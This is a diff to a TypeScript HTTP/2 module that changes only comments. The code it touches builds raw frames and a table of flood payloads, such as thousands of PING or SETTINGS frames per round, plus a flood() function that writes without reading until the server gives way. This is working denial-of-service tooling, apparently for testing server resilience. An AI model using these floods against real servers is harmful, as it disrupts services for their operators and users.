@@ -2,7 +2,7 @@ import { connect, type Socket } from "node:net";
 
 export const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
 export const SETTINGS = frame(4, 0, 0, Buffer.alloc(0));
-/** GET http / of the static table, and a literal :authority. */
+/** GET and http from the static table, and a literal :authority. */
 export const REQUEST = Buffer.from([0x82, 0x86, 0x84, 0x41, 2, 0x76, 0x78]);
 export const END_STREAM = 1;
 export const END_HEADERS = 4;
@@ -16,7 +16,7 @@ export function frame(type: number, flags: number, stream: number, payload: Buff
   return Buffer.concat([head, payload]);
 }
 
-/** What is sent in each round, by name. */
+/** The frames of each round, by name. */
 export const FLOODS: Readonly<Record<string, (round: number) => Buffer>> = {
   PING: () => Buffer.concat(Array(1_000).fill(frame(6, 0, 0, Buffer.alloc(8)))),
   SETTINGS: () => Buffer.concat(Array(1_000).fill(frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])))),
@@ -36,7 +36,10 @@ export const FLOODS: Readonly<Record<string, (round: number) => Buffer>> = {
     ),
 };
 
-/** Sends what it is given, without reading a byte, until the server has enough; resolves to the bytes it took. */
+/**
+ * Sends data without reading, until `maxBytes` are sent or the server closes the connection.
+ * Resolves to the number of bytes sent.
+ */
 export async function flood(
   url: string,
   next: (round: number) => Buffer,
